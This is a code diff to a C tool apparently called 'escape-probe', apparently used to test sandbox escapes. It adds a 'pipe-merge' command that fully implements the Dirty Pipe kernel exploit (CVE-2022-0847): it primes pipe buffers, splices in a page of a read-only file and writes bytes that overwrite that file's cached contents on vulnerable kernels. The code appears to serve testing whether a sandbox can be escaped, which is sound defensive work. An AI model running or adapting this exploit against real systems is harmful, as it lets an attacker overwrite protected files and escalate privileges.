@@ -85,6 +85,44 @@ static int cmdRewrite(int argc, char** argv) {
   return 0;
 }
 
+// pipe-merge PATH: Dirty Pipe's pattern (CVE-2022-0847) on a file the process may only read:
+// every buffer of a pipe is primed for merging (filled, then drained), the file's first page is
+// spliced in, and bytes are written to the pipe, which on a vulnerable kernel land in the
+// file's cached page. Reports "<path> page: ok" if the file then reads differently.
+static int cmdPipeMerge(const char* path) {
+  char before[64] = {0}, after[64] = {0};
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0 || pread(fd, before, sizeof before, 0) <= 0) {
+    printf("%s: unreadable\n", path);
+    if (fd >= 0) close(fd);
+    return 0;
+  }
+  int p[2];
+  if (pipe(p) != 0) return report("pipe", -1), close(fd), 0;
+  const int size = fcntl(p[1], F_GETPIPE_SZ);
+  char junk[4096];
+  memset(junk, 'j', sizeof junk);
+  for (int left = size; left > 0; left -= (int)sizeof junk)
+    if (write(p[1], junk, sizeof junk) < 0) break;
+  for (int left = size; left > 0; left -= (int)sizeof junk)
+    if (read(p[0], junk, sizeof junk) < 0) break;
+  loff_t off = 0;
+  long n = splice(fd, &off, p[1], NULL, 1, 0);
+  report("splice a page of the file into the pipe", n == 1 ? 0 : -1);
+  long w = write(p[1], "ESCAPED", 7);
+  report("write after it into the pipe", w == 7 ? 0 : -1);
+  close(p[0]);
+  close(p[1]);
+  close(fd);
+  fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd >= 0 && pread(fd, after, sizeof after, 0) > 0 && memcmp(before, after, sizeof before) != 0)
+    printf("%s page: ok\n", path);
+  else
+    printf("%s page: unchanged\n", path);
+  if (fd >= 0) close(fd);
+  return 0;
+}
+
 // fds: the descriptors this process holds (what the run inherited).
 static int cmdFds(void) {
   DIR* d = opendir("/proc/self/fd");
@@ -311,6 +349,7 @@ int main(int argc, char** argv) {
   if (!strcmp(c, "connect-abstract") && argc == 3) return cmdConnectUnix(argv[2], 1);
   if (!strcmp(c, "opendev")) return cmdOpendev(argc - 2, argv + 2);
   if (!strcmp(c, "kill") && argc == 4) return cmdKill(argv[2], argv[3]);
+  if (!strcmp(c, "pipe-merge") && argc == 3) return cmdPipeMerge(argv[2]);
   fprintf(stderr, "escape-probe: bad usage\n");
   return 2;
 }
